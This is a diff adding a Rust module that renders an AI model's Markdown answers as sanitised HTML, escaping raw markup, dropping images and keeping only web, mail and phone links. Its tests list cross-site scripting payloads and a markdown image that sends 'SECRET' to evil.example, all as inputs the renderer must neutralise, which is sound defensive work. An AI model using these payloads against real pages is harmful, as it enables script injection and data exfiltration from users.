@@ -1,0 +1,274 @@
+//! Answers as markup.
+//!
+//! What a model writes is not trusted. It becomes a tree of known elements with text in them: markup in the text stays
+//! text, images become their description, and links keep only addresses of schemes that cannot run anything.
+
+use std::fmt::Write as _;
+
+use pulldown_cmark::{Alignment, CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TagEnd};
+
+/// Renders an answer.
+pub(super) fn render(text: &str) -> String {
+    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
+    let mut writer =
+        Writer { html: String::with_capacity(text.len() * 2), in_head: false, open_links: Vec::new() };
+    for event in Parser::new_ext(text, options) {
+        writer.write(event);
+    }
+    writer.html
+}
+
+struct Writer {
+    html: String,
+    in_head: bool,
+    /// For each link being written, whether it has an address and so an element.
+    open_links: Vec<bool>,
+}
+
+impl Writer {
+    fn write(&mut self, event: Event<'_>) {
+        match event {
+            Event::Start(tag) => self.start(&tag),
+            Event::End(tag) => self.end(tag),
+            Event::Text(text)
+            | Event::Html(text)
+            | Event::InlineHtml(text)
+            | Event::InlineMath(text)
+            | Event::DisplayMath(text) => self.text(&text),
+            Event::Code(text) => {
+                self.html.push_str("<code>");
+                self.text(&text);
+                self.html.push_str("</code>");
+            }
+            Event::SoftBreak => self.html.push('\n'),
+            Event::HardBreak => self.html.push_str("<br>"),
+            Event::Rule => self.html.push_str("<hr>"),
+            Event::FootnoteReference(name) => self.text(&name),
+            Event::TaskListMarker(done) => self.html.push_str(if done { "☑ " } else { "☐ " }),
+        }
+    }
+
+    fn start(&mut self, tag: &Tag<'_>) {
+        match tag {
+            Tag::Paragraph => self.html.push_str("<p dir=\"auto\">"),
+            Tag::Heading { level, .. } => {
+                let _ = write!(self.html, "<{} dir=\"auto\">", heading(*level));
+            }
+            Tag::BlockQuote(_) => self.html.push_str("<blockquote>"),
+            Tag::CodeBlock(kind) => {
+                // The language is the model's word; it is not needed.
+                let (CodeBlockKind::Fenced(_) | CodeBlockKind::Indented) = kind;
+                self.html.push_str("<pre tabindex=\"0\" aria-label=\"Code\" dir=\"ltr\"><code>");
+            }
+            Tag::List(None) => self.html.push_str("<ul>"),
+            Tag::List(Some(first)) => {
+                let _ = write!(self.html, "<ol start=\"{first}\">");
+            }
+            Tag::Item => self.html.push_str("<li dir=\"auto\">"),
+            Tag::Table(alignments) => {
+                let (Alignment::None | Alignment::Left | Alignment::Center | Alignment::Right) =
+                    alignments.first().copied().unwrap_or(Alignment::None);
+                self.html.push_str(
+                    "<div class=\"scroll-x\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table>",
+                );
+            }
+            Tag::TableHead => {
+                self.in_head = true;
+                self.html.push_str("<thead><tr>");
+            }
+            Tag::TableRow => self.html.push_str("<tr>"),
+            Tag::TableCell => self.html.push_str(if self.in_head { "<th scope=\"col\">" } else { "<td>" }),
+            Tag::Emphasis => self.html.push_str("<em>"),
+            Tag::Strong => self.html.push_str("<strong>"),
+            Tag::Strikethrough => self.html.push_str("<s>"),
+            Tag::Link { dest_url, .. } => self.start_link(dest_url),
+            _ => {}
+        }
+    }
+
+    fn end(&mut self, tag: TagEnd) {
+        let end = match tag {
+            TagEnd::Paragraph => "</p>",
+            TagEnd::Heading(level) => {
+                let _ = write!(self.html, "</{}>", heading(level));
+                return;
+            }
+            TagEnd::BlockQuote(_) => "</blockquote>",
+            TagEnd::CodeBlock => "</code></pre>",
+            TagEnd::List(false) => "</ul>",
+            TagEnd::List(true) => "</ol>",
+            TagEnd::Item => "</li>",
+            TagEnd::Table => "</tbody></table></div>",
+            TagEnd::TableHead => {
+                self.in_head = false;
+                "</tr></thead><tbody>"
+            }
+            TagEnd::TableRow => "</tr>",
+            TagEnd::TableCell if self.in_head => "</th>",
+            TagEnd::TableCell => "</td>",
+            TagEnd::Emphasis => "</em>",
+            TagEnd::Strong => "</strong>",
+            TagEnd::Strikethrough => "</s>",
+            TagEnd::Link if self.open_links.pop() == Some(true) => "</a>",
+            _ => "",
+        };
+        self.html.push_str(end);
+    }
+
+    fn start_link(&mut self, address: &str) {
+        let is_safe = is_safe_address(address);
+        self.open_links.push(is_safe);
+        if is_safe {
+            self.html.push_str("<a target=\"_blank\" rel=\"noopener noreferrer nofollow ugc\" href=\"");
+            self.text(address);
+            self.html.push_str("\">");
+        }
+    }
+
+    fn text(&mut self, text: &str) {
+        for character in text.chars() {
+            match character {
+                '<' => self.html.push_str("&lt;"),
+                '>' => self.html.push_str("&gt;"),
+                '&' => self.html.push_str("&amp;"),
+                '"' => self.html.push_str("&quot;"),
+                '\'' => self.html.push_str("&#39;"),
+                _ => self.html.push(character),
+            }
+        }
+    }
+}
+
+/// Headings of an answer stand below the page's own.
+fn heading(level: HeadingLevel) -> &'static str {
+    match level {
+        HeadingLevel::H1 => "h3",
+        HeadingLevel::H2 => "h4",
+        HeadingLevel::H3 => "h5",
+        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => "h6",
+    }
+}
+
+/// Whole addresses that lead to a page, a mailbox or a telephone. Browsers drop white space and controls in schemes, so
+/// addresses that have any are refused.
+fn is_safe_address(address: &str) -> bool {
+    let Some((scheme, rest)) = address.split_once(':') else { return false };
+    let known = ["https", "http", "mailto", "tel"].iter().any(|known| scheme.eq_ignore_ascii_case(known));
+    let is_web = scheme.len() >= 4 && scheme[..4].eq_ignore_ascii_case("http");
+    known
+        && (!is_web || rest.starts_with("//"))
+        && !address.chars().any(|c| c.is_control() || c.is_whitespace())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn ordinary_answers_become_known_elements() {
+        for (text, html) in [
+            (
+                "# Hi\n\nOne **two** _3_",
+                "<h3 dir=\"auto\">Hi</h3><p dir=\"auto\">One <strong>two</strong> <em>3</em></p>",
+            ),
+            ("`a<b` ~~c~~", "<p dir=\"auto\"><code>a&lt;b</code> <s>c</s></p>"),
+            ("2. a\n3. b", "<ol start=\"2\"><li dir=\"auto\">a</li><li dir=\"auto\">b</li></ol>"),
+            ("```js\nx\n```", "<pre tabindex=\"0\" aria-label=\"Code\" dir=\"ltr\"><code>x\n</code></pre>"),
+            (
+                "| a |\n|---|\n| 1 |",
+                "<div class=\"scroll-x\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table><thead><tr>\
+                 <th scope=\"col\">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table></div>",
+            ),
+        ] {
+            assert_eq!(render(text), html, "{text}");
+        }
+    }
+
+    #[test]
+    fn links_keep_addresses_that_cannot_run_anything() {
+        for address in [
+            "https://a.example/x?y=1",
+            "http://a.example",
+            "mailto:a@b.example",
+            "tel:+351",
+            "HTTPS://a.example",
+        ] {
+            assert!(render(&format!("[x]({address})")).contains("<a "), "{address}");
+        }
+        for address in [
+            "javascript:alert(1)",
+            "JaVaScRiPt:alert(1)",
+            "java&#10;script:alert(1)",
+            "&#1;javascript:alert(1)",
+            "data:text/html,<script>",
+            "vbscript:x",
+            "file:///etc/passwd",
+            "//evil.example",
+            "/relative",
+            "https:evil",
+            "x",
+        ] {
+            let html = render(&format!("[x](<{address}>)"));
+            assert!(!html.contains("<a"), "{address}: {html}");
+        }
+    }
+
+    #[test]
+    fn no_payload_leaves_the_known_elements() {
+        let known = [
+            "a",
+            "blockquote",
+            "br",
+            "code",
+            "div",
+            "em",
+            "h3",
+            "h4",
+            "h5",
+            "h6",
+            "hr",
+            "li",
+            "ol",
+            "p",
+            "pre",
+            "s",
+            "strong",
+            "table",
+            "tbody",
+            "td",
+            "th",
+            "thead",
+            "tr",
+            "ul",
+        ];
+        for payload in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "![x](https://evil.example/p?d=SECRET)",
+            "![x][r]\n\n[r]: https://evil.example/p",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "[x](javascript:alert(1) \"onmouseover=alert(1)\")",
+            "<svg/onload=alert(1)>",
+            "<iframe srcdoc=\"<script>\">",
+            "[\"><script>alert(1)</script>](https://a.example)",
+            "[x](https://a.example/\"onmouseover=\"alert(1))",
+            "<https://a.example/\"onmouseover=alert(1)>",
+            "```\"><script>\nx\n```",
+            "<!--<img src=x onerror=alert(1)>-->",
+            "| <script> |\n|---|\n| <img onerror=x> |",
+            "<style>*{display:none}</style>",
+        ] {
+            let html = render(payload);
+            for tag in html.split('<').skip(1) {
+                let name: String =
+                    tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
+                assert!(known.contains(&name.as_str()), "{payload}: {html}");
+                let attributes = tag.split('>').next().unwrap();
+                for forbidden in [" on", " src", " style", " srcdoc"] {
+                    let outside_values: String = attributes.split('"').step_by(2).collect();
+                    assert!(!outside_values.contains(forbidden), "{payload}: {html}");
+                }
+            }
+        }
+    }
+}
